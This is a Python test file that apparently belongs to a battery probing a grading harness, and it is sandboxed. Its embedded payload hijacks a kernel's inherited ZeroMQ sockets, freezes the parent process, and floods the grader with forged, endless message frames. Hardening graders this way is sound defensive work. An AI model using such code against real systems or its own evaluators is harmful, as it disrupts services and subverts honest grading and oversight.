"""A cell sends the grader one message whose frames never end, for some seconds, again and again."""

from battery import after

ATTACK = """
import os
import signal
import socket
import time

HELLO = b"\\xff" + bytes(8) + b"\\x7f\\x03\\x00NULL" + bytes(48)
BLOCK = 16 * (b"\\x03" + (2**20).to_bytes(8, "big") + bytes(2**20))
END = time.monotonic() + 6


def speak(listening, kind):
    ready = b"\\x05READY\\x0bSocket-Type" + len(kind).to_bytes(4, "big") + kind
    listening.settimeout(1)
    while time.monotonic() < END:
        try:
            called, _ = listening.accept()
            called.settimeout(1)
            called.sendall(HELLO + b"\\x04" + bytes([len(ready)]) + ready)
            for _ in range(100):
                called.sendall(BLOCK)
        except OSError:
            pass


KINDS = {"-1": b"ROUTER", "-2": b"XPUB"}
calls, listening = [], []
for number in range(3, 100):
    try:
        found = socket.socket(fileno=os.dup(number))
        waits = found.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
        if str(found.getsockname())[-2:] in KINDS:
            (listening if waits else calls).append(found)
    except OSError:
        pass
for each in listening:
    if os.fork() == 0:
        os.kill(os.getppid(), signal.SIGSTOP)  # so that it does not listen itself
        for call in calls:
            call.shutdown(socket.SHUT_RDWR)
        speak(each, KINDS[each.getsockname()[-2:]])
        os.kill(os.getppid(), signal.SIGCONT)
        os._exit(0)
time.sleep(1)
"""


def submit(solution, release):
    return after(solution, "check_sgd_step", ATTACK)


EARNS = "all"
SANDBOX = True
LIMITS = {"cell": 10.0}
